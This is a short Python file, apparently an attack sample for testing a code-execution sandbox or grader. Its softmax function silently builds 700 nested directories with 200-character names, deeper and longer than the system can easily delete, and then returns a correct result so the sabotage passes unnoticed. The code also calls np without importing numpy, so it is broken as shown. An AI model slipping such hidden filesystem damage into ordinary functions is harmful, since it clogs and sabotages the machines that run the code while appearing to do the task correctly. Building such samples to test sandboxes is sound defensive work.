# /// attack
# does = "nests seven hundred folders with long names in softmax, and answers rightly"
# own = {}
# ///
"""The path of the innermost is longer than the kernel takes, and deeper than a recursive removal gets. It is gone
before the next test."""

import contextlib
import os


def softmax(logits):
    with contextlib.suppress(OSError):
        for _ in range(700):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
